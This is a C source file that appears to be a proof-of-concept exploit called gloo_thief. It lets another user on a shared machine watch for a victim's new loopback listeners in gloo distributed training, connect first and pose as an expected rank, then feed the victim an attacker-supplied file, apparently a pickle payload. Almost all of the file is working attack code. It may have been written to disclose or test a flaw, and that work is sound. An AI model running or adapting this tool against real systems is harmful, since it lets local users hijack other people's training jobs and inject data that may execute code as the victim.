// Another user of the node who takes the place of a rank in gloo groups: gloo_thief UID SECONDS PICKLE FIRST COUNT
//
// It asks the kernel for new loopback listeners of the user UID (as ss does), connects to each at once, and sends a
// sequence number, as the expected rank would. It does so COUNT times: with FIRST, FIRST + 1, …; if FIRST is negative,
// with random numbers below -FIRST. As a peer it answers each request for data with the size and then the content of
// the file PICKLE. It prints a line for each connection that gloo accepted as a rank.
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { SEND_BUFFER = 1, SEND_READY = 2, RECEIVE_READY = 3, SLOTS = 4096 };
struct header { uint64_t size, operation, slot, offset, length, remote_offset; };
static char pickle[1 << 16];
static int64_t pickle_size;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec * 1e-9;
}

static int receive(int socket, void *data, size_t length) {
    for (size_t got = 0; got < length;) {
        ssize_t part = recv(socket, (char *)data + got, length - got, 0);
        if (part <= 0) return -1;
        got += part;
    }
    return 0;
}

static void *act_as_peer(void *argument) {
    int peer = (int)(intptr_t)argument, slots = 0, accepted = 0;
    uint64_t slot[SLOTS], sent[SLOTS];
    struct header message;
    while (!receive(peer, &message, sizeof message) && message.operation <= RECEIVE_READY && message.length < 1ull << 32) {
        if (!accepted++) printf("accepted as a rank\n"), fflush(stdout);
        if (message.operation == SEND_READY) {
            struct header ready = {48, RECEIVE_READY, message.slot, 0, message.length, 0};
            send(peer, &ready, sizeof ready, MSG_NOSIGNAL);
        } else if (message.operation == SEND_BUFFER) {
            char *data = malloc(message.length + 1);
            int ended = receive(peer, data, message.length);
            free(data);
            if (ended) break;
        } else {
            int i = 0;
            while (i < slots && slot[i] != message.slot) i++;
            if (i == slots && slots < SLOTS - 1) slot[i] = message.slot, sent[i] = 0, slots++;
            char *data = calloc(1, message.length + 1);
            for (uint64_t k = 0; k < message.length; k++) {
                uint64_t at = sent[i] + k;
                data[k] = sent[i] + message.length <= 8 ? ((char *)&pickle_size)[at]
                          : at < (uint64_t)pickle_size  ? pickle[at] : 0;
            }
            sent[i] += message.length;
            struct header ready = {48, SEND_READY, message.slot, 0, message.length, 0};
            struct header buffer = {48 + message.length, SEND_BUFFER, message.slot, 0, message.length, 0};
            send(peer, &ready, sizeof ready, MSG_NOSIGNAL);
            send(peer, &buffer, sizeof buffer, MSG_NOSIGNAL);
            send(peer, data, message.length, MSG_NOSIGNAL);
            free(data);
        }
    }
    close(peer);
    return 0;
}

static void take_place(int port, long first, int count) {
    for (int i = 0; i < count; i++) {
        int peer = socket(AF_INET, SOCK_STREAM, 0), yes = 1;
        setsockopt(peer, IPPROTO_TCP, TCP_NODELAY, &yes, sizeof yes);
        struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (connect(peer, (void *)&address, sizeof address)) {
            close(peer);
            return;
        }
        int64_t number = first < 0 ? random() % -first : first + i;
        send(peer, &number, sizeof number, MSG_NOSIGNAL);
        pthread_t thread;
        pthread_create(&thread, 0, act_as_peer, (void *)(intptr_t)peer);
        pthread_detach(thread);
    }
}

int main(int argc, char **argv) {
    if (argc != 6) return 2;
    static unsigned char known[65536], current[65536];
    static char buffer[1 << 18];
    unsigned uid = atoi(argv[1]);
    double end = now() + atof(argv[2]);
    int file = open(argv[3], O_RDONLY), diag = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
    pickle_size = read(file, pickle, sizeof pickle);
    struct { struct nlmsghdr header; struct inet_diag_req_v2 request; } dump = {
        .header = {sizeof dump, SOCK_DIAG_BY_FAMILY, NLM_F_REQUEST | NLM_F_DUMP, 0, 0},
        .request = {.sdiag_family = AF_INET, .sdiag_protocol = IPPROTO_TCP, .idiag_states = 1 << 10}};
    for (int rounds = 0; now() < end; rounds++) {
        memset(current, 0, sizeof current);
        send(diag, &dump, sizeof dump, 0);
        for (int done = 0; !done;) {
            ssize_t length = recv(diag, buffer, sizeof buffer, 0);
            if (length <= 0) break;
            for (struct nlmsghdr *entry = (void *)buffer; NLMSG_OK(entry, length); entry = NLMSG_NEXT(entry, length)) {
                done = entry->nlmsg_type == NLMSG_DONE || entry->nlmsg_type == NLMSG_ERROR;
                if (done) break;
                struct inet_diag_msg *found = NLMSG_DATA(entry);
                int port = ntohs(found->id.idiag_sport);
                if (found->idiag_uid != uid || found->id.idiag_src[0] != htonl(INADDR_LOOPBACK)) continue;
                current[port] = 1;
                if (rounds && !known[port]) known[port] = 1, take_place(port, atol(argv[4]), atoi(argv[5]));
            }
        }
        memcpy(known, current, sizeof known);
        if (!rounds) printf("watching\n"), fflush(stdout);
    }
}
